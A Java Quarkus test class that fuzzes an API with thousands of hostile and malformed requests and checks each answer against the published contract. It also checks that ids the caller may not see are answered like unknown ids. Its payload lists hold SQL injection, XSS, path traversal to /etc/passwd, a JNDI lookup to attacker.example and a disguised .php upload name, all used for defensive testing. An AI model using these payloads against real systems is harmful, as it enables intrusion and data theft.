package org.elbasar.common;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.networknt.schema.JsonSchema;
import com.networknt.schema.JsonSchemaFactory;
import com.networknt.schema.SpecVersion;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import java.nio.charset.StandardCharsets;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.elbasar.account.domain.OrganisationRole;
import org.elbasar.account.domain.PlatformRole;
import org.elbasar.common.api.Problem;
import org.elbasar.member.domain.Organisation;
import org.elbasar.member.domain.OrganisationStatus;
import org.elbasar.testing.Api;
import org.elbasar.testing.Contract;
import org.elbasar.testing.EventInputs;
import org.elbasar.testing.Fixtures;
import org.elbasar.testing.Items;
import org.elbasar.testing.Partners;
import org.junit.jupiter.api.Test;

/**
 * Thousands of malformed, boundary and unexpected requests generated from the published contract,
 * to every operation: wrong types, missing and unknown fields, huge strings and arrays, invalid UTF-8,
 * dates out of range, negative and enormous numbers, SQL and script fragments, path traversal,
 * wrong content types. Every answer must be below 500, have a status the contract documents for
 * the operation, be problem+json when it is an error, and match the documented schema.
 * Some hostile requests are valid ones: the test runs in a JVM, hence on a database, of its own (pom.xml).
 * Its unexpected answers are listed in target/hostile-input-failures.txt.
 */
@QuarkusTest
class HostileInputTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final List<String> HOSTILE_TEXT = List.of("' OR '1'='1' --", "\"; DROP TABLE person; --",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
            "%00%0d%0a", "\u0000", "𝕏😀\u202e", "a".repeat(20_000), "${jndi:ldap://attacker.example/a}", "{{7*7}}");
    /** Request lines beyond 4 KB are refused by the HTTP layer (414) before the application sees them. */
    private static final List<String> HOSTILE_PATH_VALUES = List.of("not-a-uuid", "..%2F..%2Fetc%2Fpasswd", "'%20OR%201=1--",
            "%3Cscript%3E", "a".repeat(2000), "-1", "99999999999999999999", "%00", UUID.randomUUID().toString());
    private static final List<String> HOSTILE_QUERY_VALUES = List.of("abc", "-1", "0", "99999999999999999999", "1e309", "NaN",
            "99999-12-31", "2026-13-45T25:61:00Z", "' OR 1=1--", "<script>", "../../etc/passwd", "\u0000", "a".repeat(1_000), "");
    /** A body whose bytes are not UTF-8. */
    private static final byte[] INVALID_UTF8 = { '{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}' };
    /**
     * Byte sequences a lenient decoder turns into something else than what was sent: an overlong '<', a lone
     * surrogate, a code point beyond U+10FFFF. A text holding one must be refused (400), not stored altered.
     */
    private static final List<byte[]> MALFORMED_UTF8 = List.of(new byte[] { (byte) 0xC0, (byte) 0xBC },
            new byte[] { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }, new byte[] { (byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80 });
    /** Days no one means, some beyond what PostgreSQL or iCalendar can hold; times are added for date-time fields. */
    private static final List<String> EXTREME_DAYS = List.of("+999999999-12-31", "-999999999-01-01", "294276-01-01", "0000-01-01",
            "9999-12-31");
    /** Where a malformed text goes in a body: an ASCII marker, replaced by the malformed bytes once serialised. */
    private static final String MARKER = "MALFORMED-UTF8-HERE";

    @Inject
    Fixtures fixtures;

    private Contract contract;
    private JsonSchemaFactory schemas;
    private final Map<String, JsonSchema> compiled = new HashMap<>();
    private final List<String> failures = new ArrayList<>();
    private int tried;
    /**
     * The status of the operation's plausible request when it is 401 or 403: the caller may not call it, which is
     * said before the body is read, so that hostile bodies get the same answer rather than a 400.
     */
    private int refusedBeforeInput;
    private final java.util.Random random = new java.util.Random(20261128);

    @Test
    void everyOperationAnswersHostileInputAsTheContractSays() throws Exception {
        contract = Contract.served();
        schemas = JsonSchemaFactory.getInstance(SpecVersion.VersionFlag.V202012,
                builder -> builder.schemaLoaders(loaders -> loaders.schemas(Map.of(Contract.ID, contract.withAbsoluteReferences()))));

        var organisation = fixtures.activeOrganisation();
        String everyone = fixtures.token(fixtures.person(organisation.id, OrganisationRole.ORG_ADMIN, PlatformRole.ADMIN));
        String partner = Partners.register(everyone, "catalog:read", "organisations:read", "opportunities:write", "webhooks:manage").token();

        for (Contract.Operation operation : contract.operations()) {
            String security = operation.node().path("security").toString();
            String token = security.contains(":") || security.contains("PARTNER") ? partner : everyone;
            attack(operation.path(), operation.method().toLowerCase(), operation.node(), token);
        }
        java.nio.file.Files.write(java.nio.file.Path.of("target", "hostile-input-failures.txt"), failures);
        System.out.printf("Hostile input: %d requests to %d operations, %d unexpected answers%n", tried, contract.operations().size(), failures.size());
        assertEquals(List.of(), failures.subList(0, Math.min(40, failures.size())), failures.size() + " unexpected answers");
        assertTrue(tried > 3000, tried + " requests");
    }

    /** The HTTP layer's limits answer in the one error shape too: 414 for a long request line, 431 for long headers. */
    @Test
    void oversizeRequestLinesAndHeadersAreProblems() {
        tooLarge(RestAssured.given().get("/api/v1/sectors?q=" + "a".repeat(5_000)), 414);
        tooLarge(RestAssured.given().header("X-Padding", "a".repeat(9_000)).get("/api/v1/sectors"), 431);
    }

    private static void tooLarge(Response response, int status) {
        assertEquals(status, response.statusCode());
        assertEquals(Problem.MEDIA_TYPE, response.contentType().split(";")[0]);
        assertEquals(status, response.jsonPath().getInt("status"));
        assertTrue(!response.jsonPath().getString("title").isBlank());
    }

    /**
     * Every id field of every body of the contract, sent by a plain member with the id of something that member may not
     * see: another organisation's draft, hidden and withdrawn items, proposals pending, cancelled before approval or
     * rejected, an organisation not yet admitted. Each must be answered exactly as an id that does not exist (same
     * status, same violations), and no answer may show the thing's title. Organisation ids of the body are the
     * member's and the other organisation's, in every arrangement, so that the request gets as far as the id.
     */
    @Test
    void idsOfWhatTheCallerMayNotSeeAnswerAsIdsThatDoNotExist() throws Exception {
        contract = Contract.served();
        Organisation mine = fixtures.activeOrganisation();
        Organisation other = fixtures.activeOrganisation();
        String member = fixtures.token(fixtures.member(mine.id));
        Map<String, String> unseen = unseenBy(fixtures.token(fixtures.member(other.id)), fixtures.token(fixtures.animator()));
        List<String> leaks = new ArrayList<>();
        for (Contract.Operation operation : contract.operations()) {
            JsonNode requestContent = operation.node().path("requestBody").path("content").path("application/json");
            if (requestContent.isMissingNode()) {
                continue;
            }
            JsonNode schema = contract.resolve(requestContent.path("schema"));
            List<String> idFields = new ArrayList<>();
            schema.path("properties").fields().forEachRemaining(p -> {
                if ("uuid".equals(contract.resolve(p.getValue()).path("format").asText())) {
                    idFields.add(p.getKey());
                }
            });
            if (idFields.isEmpty()) {
                continue;
            }
            String path = plausiblePath(operation);
            ObjectNode base = (ObjectNode) contract.plausible(schema);
            base.remove(idFields);
            List<String> organisationFields = idFields.stream().filter(field -> field.endsWith("rganisationId")).toList();
            for (int arrangement = 0; arrangement < 1 << organisationFields.size(); arrangement++) {
                ObjectNode arranged = base.deepCopy();
                for (int i = 0; i < organisationFields.size(); i++) {
                    arranged.put(organisationFields.get(i), ((arrangement >> i & 1) == 0 ? mine : other).id.toString());
                }
                for (String field : idFields) {
                    String unknown = UUID.randomUUID().toString();
                    String expected = answer(request(member).contentType("application/json")
                            .body(arranged.deepCopy().put(field, unknown).toString()).request(operation.method(), path), unknown);
                    for (Map.Entry<String, String> thing : unseen.entrySet()) {
                        Response response = request(member).contentType("application/json")
                                .body(arranged.deepCopy().put(field, thing.getKey()).toString()).request(operation.method(), path);
                        String got = answer(response, thing.getKey());
                        if (!got.equals(expected) || response.asString().contains(thing.getValue())) {
                            leaks.add(operation.key() + " " + arranged.deepCopy().put(field, thing.getValue()) + ": answered " + abbreviate(got)
                                    + " where an unknown id gets " + abbreviate(expected));
                        }
                    }
                }
            }
        }
        System.out.printf("Unseen ids: %d things tried in every id field of every body, %d answers that differ from an unknown id%n",
                unseen.size(), leaks.size());
        assertEquals(List.of(), leaks, leaks.size() + " answers tell an unseen thing from an unknown one");
    }

    /** Things a member of another organisation may not see, by id, with their title. */
    private Map<String, String> unseenBy(String owner, String animator) {
        Map<String, String> unseen = new LinkedHashMap<>();
        for (String kind : List.of("offers", "requests")) {
            String title = Fixtures.unique("Brouillon");
            unseen.put(Api.as(owner).body(Items.loan(title, "Pas encore publié.")).post("/api/v1/" + kind).then().statusCode(201)
                    .extract().path("id"), title);
        }
        String hidden = Fixtures.unique("Masquée");
        String id = Items.publish(owner, "offers", Items.loan(hidden, "Masquée par l'animation."));
        Api.as(animator).body(Map.of("reason", "Hors charte")).post("/api/v1/offers/" + id + "/hide").then().statusCode(200);
        unseen.put(id, hidden);
        String withdrawn = Fixtures.unique("Retirée");
        id = Items.publish(owner, "requests", Items.loan(withdrawn, "Retirée par son organisation."));
        Api.as(owner).post("/api/v1/requests/" + id + "/withdraw").then().statusCode(200);
        unseen.put(id, withdrawn);
        for (String end : List.of("pending", "cancel", "reject")) {
            Map<String, Object> proposal = EventInputs.apero(LocalDateTime.now().plusDays(30).withNano(0), 20);
            id = Api.as(owner).body(proposal).post("/api/v1/events").then().statusCode(201).extract().path("id");
            if (!end.equals("pending")) {
                Api.as(end.equals("cancel") ? owner : animator).body(Map.of("reason", "Plus de salle")).post("/api/v1/events/" + id + "/" + end)
                        .then().statusCode(200);
            }
            unseen.put(id, (String) proposal.get("title"));
        }
        Organisation candidate = fixtures.organisation(Fixtures.unique("Candidate"), OrganisationStatus.PENDING, "commune:59350");
        unseen.put(candidate.id.toString(), candidate.name);
        return unseen;
    }

    /** The status and the problem's violations, with the id sent written {id}: what must not tell one id from another. */
    private static String answer(Response response, String id) {
        String text = response.asString().replace(id, "{id}");
        String violations = text;
        try {
            violations = JSON.readTree(text).path("violations").toString();
        } catch (java.io.IOException notJson) {
            // the whole text is compared
        }
        return response.statusCode() + " " + violations;
    }

    private String plausiblePath(Contract.Operation operation) {
        Map<String, String> values = new HashMap<>();
        operation.node().path("parameters").forEach(p -> {
            if ("path".equals(p.path("in").asText())) {
                values.put(p.path("name").asText(), contract.plausible(p.path("schema")).asText());
            }
        });
        return expand(operation.path(), values);
    }

    private void attack(String template, String method, JsonNode operation, String token) {
        List<JsonNode> parameters = new ArrayList<>();
        operation.path("parameters").forEach(parameters::add);
        Map<String, String> pathValues = new HashMap<>();
        parameters.stream().filter(p -> "path".equals(p.path("in").asText()))
                .forEach(p -> pathValues.put(p.path("name").asText(),
                        java.net.URLEncoder.encode(contract.plausible(p.path("schema")).asText(), StandardCharsets.UTF_8).replace("+", "%20")));

        // hostile path parameters, one at a time
        for (String name : pathValues.keySet()) {
            for (String value : HOSTILE_PATH_VALUES) {
                Map<String, String> values = new HashMap<>(pathValues);
                values.put(name, value);
                send(template, method, operation, token, values, Map.of(), contract.body(operation).map(contract::plausible).orElse(null), null);
            }
        }
        JsonNode plausibleBody = contract.body(operation).map(contract::plausible).orElse(null);
        refusedBeforeInput = sent(token, method, expand(template, pathValues), Map.of(), plausibleBody).statusCode();
        // malformed UTF-8 in a path segment
        for (String name : pathValues.keySet()) {
            for (byte[] bytes : MALFORMED_UTF8) {
                Map<String, String> values = new HashMap<>(pathValues);
                values.put(name, "a" + percentEncoded(bytes));
                expectRefused(method, template, operation, name, null, sent(token, method, expand(template, values), Map.of(), plausibleBody));
            }
        }
        // hostile query parameters, one at a time
        for (JsonNode parameter : parameters) {
            if ("query".equals(parameter.path("in").asText())) {
                String name = parameter.path("name").asText();
                for (String value : HOSTILE_QUERY_VALUES) {
                    send(template, method, operation, token, pathValues, Map.of(name, encoded(value)), plausibleBody, null);
                }
                for (byte[] bytes : MALFORMED_UTF8) {
                    expectRefused(method, template, operation, name, null,
                            sent(token, method, expand(template, pathValues), Map.of(name, "a" + percentEncoded(bytes)), plausibleBody));
                }
                JsonNode schema = contract.resolve(parameter.path("schema"));
                if (Contract.isTemporal(schema)) {
                    for (String value : extremeValues(schema)) {
                        expectRefused(method, template, operation, name, name,
                                sent(token, method, expand(template, pathValues), Map.of(name, encoded(value)), plausibleBody));
                    }
                }
            }
        }
        JsonNode requestContent = operation.path("requestBody").path("content");
        if (requestContent.has("multipart/form-data")) {
            for (String fileName : List.of("../../../../etc/passwd", "photo.jpg\u0000.php", "<script>.png", "a".repeat(2000) + ".jpg")) {
                tried++;
                check(method, template, operation, request(token).multiPart("file", fileName, "not an image at all".getBytes(), "image/jpeg")
                        .request(method, expand(template, pathValues)));
            }
            // file names of malformed UTF-8: below 500 and documented only (a file's name is never kept)
            for (byte[] bytes : MALFORMED_UTF8) {
                tried++;
                check(method, template, operation, request(token)
                        .contentType("multipart/form-data; boundary=hostile").body(multipartWithFileName(bytes))
                        .request(method, expand(template, pathValues)));
            }
            tried++;
            check(method, template, operation, request(token).multiPart("file", "x.svg",
                    "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>".getBytes(), "image/svg+xml")
                    .request(method, expand(template, pathValues)));
        }
        if (requestContent.has("application/x-www-form-urlencoded")) {
            List<String> fields = new ArrayList<>();
            requestContent.path("application/x-www-form-urlencoded").path("schema").path("properties").fieldNames()
                    .forEachRemaining(fields::add);
            for (String field : fields) {
                for (byte[] bytes : MALFORMED_UTF8) {
                    expectRefused(method, template, operation, "form field " + field, null, request(token)
                            .contentType("application/x-www-form-urlencoded; charset=UTF-8")
                            .body(field + "=a" + percentEncoded(bytes)).request(method, expand(template, pathValues)));
                }
            }
        }
        if (!requestContent.has("application/json")) {
            return;
        }
        JsonNode schema = contract.resolve(requestContent.path("application/json").path("schema"));
        JsonNode base = contract.plausible(schema);
        for (String raw : List.of("", "null", "[]", "\"text\"", "42", "{", "{\"a\":", "[".repeat(5000) + "]".repeat(5000),
                "{\"a\":" + "1".repeat(400) + "}", "{\"" + "k".repeat(100_000) + "\": 1}")) {
            send(template, method, operation, token, pathValues, Map.of(), null, raw);
        }
        expectRefused(method, template, operation, "body", null, request(token).contentType("application/json").body(INVALID_UTF8)
                .request(method, expand(template, pathValues)));
        for (String contentType : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded")) {
            tried++;
            check(method, template, operation, request(token).contentType(contentType).body(base.toString())
                    .request(method, expand(template, pathValues)));
        }
        if (base instanceof ObjectNode object) {
            attackFields(template, method, operation, token, pathValues, object, contract.fields(schema));
            ObjectNode extra = object.deepCopy();
            extra.put("isAdmin", true);
            send(template, method, operation, token, pathValues, Map.of(), extra, null);
            for (Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields(); properties.hasNext();) {
                var property = properties.next();
                for (JsonNode value : sample(hostileValues(contract.resolve(property.getValue())))) {
                    ObjectNode mutated = object.deepCopy();
                    if (value == null) {
                        mutated.remove(property.getKey());
                    } else {
                        mutated.set(property.getKey(), value);
                    }
                    send(template, method, operation, token, pathValues, Map.of(), mutated, null);
                }
            }
        }
    }

    /**
     * Every field, nested ones included, read strictly: a date or time out of any sensible range, a text of
     * malformed UTF-8, a key given twice, a number sent as a string, a fraction in an integer: each is refused
     * with 400 naming the field (its JSON path), never stored, truncated or taken as something else.
     */
    private void attackFields(String template, String method, JsonNode operation, String token, Map<String, String> pathValues,
            ObjectNode base, Map<String, JsonNode> fields) {
        String path = expand(template, pathValues);
        for (var field : fields.entrySet()) {
            String name = field.getKey();
            JsonNode schema = field.getValue();
            String type = schema.path("type").asText();
            if (Contract.isTemporal(schema)) {
                for (String value : extremeValues(schema)) {
                    expectRefused(method, template, operation, name, name,
                            sent(token, method, path, Map.of(), Contract.with(base, name, NODES.textNode(value))));
                }
            }
            if ("string".equals(type) && !schema.has("enum") && !schema.has("format") && !schema.has("pattern")) {
                byte[] json = Contract.with(base, name, NODES.textNode(MARKER)).toString().getBytes(StandardCharsets.UTF_8);
                for (byte[] bytes : MALFORMED_UTF8) {
                    expectRefused(method, template, operation, name, null,
                            request(token).contentType("application/json").body(replaced(json, bytes)).request(method, path));
                }
            }
            if ("integer".equals(type) || "number".equals(type)) {
                expectRefused(method, template, operation, name, name,
                        sent(token, method, path, Map.of(), Contract.with(base, name, NODES.textNode("12"))));
            }
            if ("integer".equals(type)) {
                expectRefused(method, template, operation, name, name,
                        sent(token, method, path, Map.of(), Contract.with(base, name, NODES.numberNode(1.5))));
            }
            if (!name.contains(".")) {
                // the key twice, the second time with a value of the right type: the last one must not silently win
                String once = base.toString();
                String twice = "{" + JSON.valueToTree(name) + ":" + base.get(name) + "," + once.substring(1);
                tried++;
                expectRefused(method, template, operation, name, name,
                        request(token).contentType("application/json").body(twice).request(method, path));
            }
        }
    }

    /** An extreme value of each day, in the format of the field. */
    private static List<String> extremeValues(JsonNode schema) {
        String suffix = switch (schema.path("format").asText()) {
            case "date" -> "";
            case "date-time" -> "T23:59:59Z";
            default -> "T23:59";
        };
        return EXTREME_DAYS.stream().map(day -> day + suffix).toList();
    }

    private Response sent(String token, String method, String path, Map<String, String> query, JsonNode body) {
        RequestSpecification request = request(token);
        query.forEach(request::queryParam);
        if (body != null) {
            request.contentType("application/json").body(body.toString());
        }
        return request.request(method, path);
    }

    /**
     * The answer must be 400 problem+json, naming the field when one is given (the whole answer is also
     * checked against the contract).
     */
    private void expectRefused(String method, String template, JsonNode operation, String what, String field, Response response) {
        tried++;
        int before = failures.size();
        check(method, template, operation, response);
        if (failures.size() > before) {
            return;
        }
        String where = method.toUpperCase() + " " + template + " with a hostile " + what + " -> " + response.statusCode();
        List<String> named = response.statusCode() == 400 ? response.jsonPath().getList("violations.field") : null;
        if ((refusedBeforeInput == 401 || refusedBeforeInput == 403) && response.statusCode() == refusedBeforeInput) {
            return;
        }
        if (response.statusCode() != 400) {
            failures.add(where + ", not 400: " + abbreviate(response.asString()));
        } else if (field != null && (named == null || !named.contains(field))) {
            failures.add(where + " without a violation on " + field + ": " + abbreviate(response.asString()));
        }
    }

    private static String encoded(String value) {
        return java.net.URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static String percentEncoded(byte[] bytes) {
        StringBuilder encoded = new StringBuilder();
        for (byte b : bytes) {
            encoded.append('%').append(String.format("%02X", b & 0xFF));
        }
        return encoded.toString();
    }

    private static byte[] replaced(byte[] json, byte[] bytes) {
        String text = new String(json, StandardCharsets.UTF_8);
        int at = text.indexOf(MARKER);
        byte[] before = text.substring(0, at).getBytes(StandardCharsets.UTF_8);
        byte[] after = text.substring(at + MARKER.length()).getBytes(StandardCharsets.UTF_8);
        byte[] result = new byte[before.length + bytes.length + after.length];
        System.arraycopy(before, 0, result, 0, before.length);
        System.arraycopy(bytes, 0, result, before.length, bytes.length);
        System.arraycopy(after, 0, result, before.length + bytes.length, after.length);
        return result;
    }

    /** A multipart body whose one file is named with malformed UTF-8 (raw bytes, as browsers send names). */
    private static byte[] multipartWithFileName(byte[] bytes) {
        byte[] head = "--hostile\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a".getBytes(StandardCharsets.US_ASCII);
        byte[] tail = (".jpg\"\r\nContent-Type: image/jpeg\r\n\r\nnot an image\r\n--hostile--\r\n").getBytes(StandardCharsets.US_ASCII);
        byte[] body = new byte[head.length + bytes.length + tail.length];
        System.arraycopy(head, 0, body, 0, head.length);
        System.arraycopy(bytes, 0, body, head.length, bytes.length);
        System.arraycopy(tail, 0, body, head.length + bytes.length, tail.length);
        return body;
    }

    /**
     * Every hostile value for every field takes minutes: by default each field gets absence, null and a
     * seeded random third of the others (different for each field, the same on each run);
     * -Delbasar.hostile.full=true (make soak) sends them all.
     */
    private List<JsonNode> sample(List<JsonNode> values) {
        if (Boolean.getBoolean("elbasar.hostile.full")) {
            return values;
        }
        List<JsonNode> others = new ArrayList<>(values.subList(2, values.size()));
        java.util.Collections.shuffle(others, random);
        List<JsonNode> sample = new ArrayList<>(values.subList(0, 2));
        sample.addAll(others.subList(0, others.size() / 3));
        return sample;
    }

    /** Values of the wrong type, at and beyond the bounds, and fragments of attacks; null stands for "absent". */
    private List<JsonNode> hostileValues(JsonNode schema) {
        List<JsonNode> values = new ArrayList<>();
        values.add(null);
        values.add(NODES.nullNode());
        values.add(NODES.objectNode().put("$gt", ""));
        values.add(NODES.arrayNode().add(1).add("two"));
        values.add(NODES.booleanNode(true));
        values.add(NODES.numberNode(-1));
        values.add(NODES.numberNode(new java.math.BigDecimal("1e400")));
        values.add(NODES.numberNode(2_147_483_648L));
        values.add(NODES.numberNode(0.5));
        for (String text : HOSTILE_TEXT) {
            values.add(NODES.textNode(text));
        }
        values.add(NODES.textNode("0000-00-00"));
        values.add(NODES.textNode("+999999999-12-31T23:59:59Z"));
        values.add(NODES.textNode("-4713-01-01"));
        ArrayNode huge = NODES.arrayNode();
        JsonNode element = schema.has("items") ? contract.plausible(contract.resolve(schema.path("items"))) : NODES.textNode("x");
        for (int i = 0; i < 1_000; i++) {
            huge.add(element);
        }
        values.add(huge);
        return values;
    }

    private void send(String template, String method, JsonNode operation, String token, Map<String, String> pathValues,
            Map<String, String> query, JsonNode body, String raw) {
        RequestSpecification request = request(token);
        query.forEach(request::queryParam);
        if (body != null) {
            request.contentType("application/json").body(body.toString());
        } else if (raw != null) {
            request.contentType("application/json").body(raw.getBytes(StandardCharsets.UTF_8));
        }
        tried++;
        check(method, template, operation, request.request(method, expand(template, pathValues)));
    }

    private static RequestSpecification request(String token) {
        return RestAssured.given().urlEncodingEnabled(false).header("Authorization", "Bearer " + token)
                .header("Accept", "application/json, application/problem+json, */*");
    }

    private static String expand(String template, Map<String, String> values) {
        String path = template;
        for (var value : values.entrySet()) {
            path = path.replace("{" + value.getKey() + "}", value.getValue());
        }
        return path;
    }

    private void check(String method, String template, JsonNode operation, Response response) {
        int status = response.statusCode();
        String where = method.toUpperCase() + " " + template + " -> " + status;
        if (status >= 500) {
            failures.add(where + ": " + abbreviate(response.asString()));
            return;
        }
        JsonNode documented = operation.path("responses").path(String.valueOf(status));
        if (documented.isMissingNode()) {
            failures.add(where + " is not documented: " + abbreviate(response.asString()));
            return;
        }
        String contentType = response.contentType() == null ? "" : response.contentType();
        if (status >= 400 && !contentType.startsWith("application/problem+json")) {
            failures.add(where + " is " + contentType + ", not problem+json");
            return;
        }
        String mediaType = contentType.split(";")[0].trim();
        JsonNode schema = documented.path("content").path(mediaType).path("schema");
        if (schema.isMissingNode() || !mediaType.contains("json") || response.asByteArray().length == 0) {
            return;
        }
        try {
            JsonNode answer = withoutNulls(JSON.readTree(response.asByteArray()));
            var errors = compiled.computeIfAbsent(schema.toString(), s -> schemas.getSchema(s)).validate(answer);
            if (!errors.isEmpty()) {
                failures.add(where + " does not match the contract: " + abbreviate(errors.toString()));
            }
        } catch (java.io.IOException e) {
            failures.add(where + " is not JSON: " + abbreviate(response.asString()));
        }
    }

    /** The contract does not mark fields nullable: a null stands for an absent optional field. */
    private static JsonNode withoutNulls(JsonNode node) {
        if (node instanceof ObjectNode object) {
            List<String> nulls = new ArrayList<>();
            object.fields().forEachRemaining(f -> {
                if (f.getValue().isNull()) {
                    nulls.add(f.getKey());
                } else {
                    withoutNulls(f.getValue());
                }
            });
            object.remove(nulls);
        } else if (node instanceof ArrayNode array) {
            array.forEach(HostileInputTest::withoutNulls);
        }
        return node;
    }

    private static String abbreviate(String text) {
        return text.length() > 300 ? text.substring(0, 300) + "…" : text;
    }
}
